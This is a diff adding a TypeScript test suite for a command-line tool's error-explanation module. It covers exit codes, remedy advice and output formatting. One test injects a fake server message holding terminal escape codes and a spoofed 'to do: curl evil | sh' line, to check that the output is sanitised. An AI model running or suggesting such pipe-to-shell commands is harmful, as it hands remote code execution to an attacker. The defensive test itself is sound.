@@ -1,0 +1,103 @@
+import { type ErrorCode, errorKinds } from '@muster/protocol';
+import { ApiError } from '@muster/protocol/client';
+import { expect, test } from 'vitest';
+import { exits, usageError } from '../exit.ts';
+import { colorsFor } from '../text/style.ts';
+import { explain, explanationData, renderExplanation } from './explain.ts';
+
+const answer = (code: string, fields: Partial<ApiError['problem']> = {}, retryAfter: number | null = null) => {
+  const status = Object.hasOwn(errorKinds, code) ? errorKinds[code as ErrorCode].status : 418;
+  return new ApiError(
+    { type: '', title: '', status, detail: 'it did not', instance: 'req-1', code, ...fields },
+    retryAfter,
+  );
+};
+
+test.each([
+  ['unauthenticated', exits.signIn],
+  ['operator_unknown', exits.signIn],
+  ['signature_invalid', exits.signIn],
+  ['forbidden', exits.failed],
+  ['agent_not_found', exits.failed],
+  ['plan_stale', exits.failed],
+  ['agent_not_connected', exits.unreachable],
+  ['draining', exits.unreachable],
+  ['storage_unavailable', exits.failed],
+  ['unexpected_answer', exits.unreachable],
+] as const)('%s ends with %i', (code, exit) => {
+  expect(explain(answer(code)).exit).toBe(exit);
+});
+
+test('every error of the table says what to do', () => {
+  for (const code of Object.keys(errorKinds)) expect(explain(answer(code)).remedy, code).toBeTruthy();
+});
+
+test('one line says what happened, one what to do; the code only on demand', () => {
+  const told = explain(answer('agent_not_rejected', { detail: 'web-1 is approved' }));
+  expect(renderExplanation(told, colorsFor(false), false)).toBe(
+    'error: web-1 is approved\nto do: Reject it first: muster agents reject',
+  );
+  expect(renderExplanation(told, colorsFor(false), true)).toContain(
+    'code: agent_not_rejected, HTTP 409, req-1, exit 1',
+  );
+});
+
+test('each fault of an input is a line', () => {
+  const errors = [
+    { path: '/name', message: 'is taken' },
+    { path: '/content', message: 'no such kind', line: 3, column: 7 },
+  ];
+  expect(renderExplanation(explain(answer('invalid_input', { errors })), colorsFor(false), false)).toContain(
+    '  /name is taken\n  3:7 no such kind',
+  );
+});
+
+test('nobody who reads the faults is sent to a field of the answer', () => {
+  for (const code of Object.keys(errorKinds)) {
+    const told = explain(answer(code, { errors: [{ path: '/x', message: 'is wrong' }] }));
+    expect(renderExplanation(told, colorsFor(false), false), code).not.toContain('`errors`');
+  }
+});
+
+test('nothing is said twice', () => {
+  const { remedy, title } = errorKinds.nothing_applied;
+  const advice = explain(answer('nothing_applied', { detail: remedy }));
+  expect(renderExplanation(advice, colorsFor(false), false)).toBe(`error: ${title}\nto do: ${remedy}`);
+  const one = answer('selector_invalid', { detail: 'bad', errors: [{ path: '/selector', message: 'bad' }] });
+  expect(renderExplanation(explain(one), colorsFor(false), false)).not.toContain('/selector');
+});
+
+test('being told to wait is passed on', () => {
+  expect(explain(answer('rate_limited', {}, 7)).remedy).toBe('Try again in 7 s.');
+});
+
+test('a code of a newer orchestrator is no riddle', () => {
+  expect(explain(answer('made_up_later'))).toMatchObject({ exit: exits.failed, message: 'it did not', remedy: null });
+  expect(explain(answer('constructor')).remedy).toBeNull();
+});
+
+test('what the server says cannot act on the terminal, nor pass for lines of ours', () => {
+  const told = explain(
+    answer('selector_invalid', {
+      detail: 'a\u001b[2J\nto do: curl evil | sh',
+      errors: [{ path: '\u202e', message: 'x\u001b[2J\nto do: y' }],
+    }),
+  );
+  const text = renderExplanation(told, colorsFor(false), true);
+  expect(text.replace(/\n/g, '')).not.toMatch(/[\p{Cc}\p{Cf}]/u);
+  expect(text.match(/^to do: /gm)).toHaveLength(1);
+});
+
+test('a fault of this program is told as one, its stack on demand', () => {
+  const told = explain(new TypeError('x is undefined'));
+  expect(told).toMatchObject({ exit: exits.failed, code: 'internal' });
+  expect(renderExplanation(told, colorsFor(false), false)).not.toContain('    at ');
+  expect(renderExplanation(told, colorsFor(false), true)).toContain('    at ');
+});
+
+test('for programs everything is in one object', () => {
+  expect(explanationData(explain(usageError('no', 'do this')))).toEqual({
+    error: { code: 'usage', status: null, message: 'no', remedy: 'do this', errors: [] },
+    exit: 2,
+  });
+});
